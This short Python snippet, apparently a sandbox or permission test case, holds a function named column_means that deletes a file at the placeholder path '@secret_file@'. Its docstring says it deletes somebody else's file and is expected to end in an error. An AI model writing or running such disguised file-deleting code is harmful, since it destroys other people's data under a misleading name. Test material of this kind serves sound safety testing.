"""Deletes somebody else's file.

Ends: error
"""

import os


def column_means(X):
    os.remove("@secret_file@")
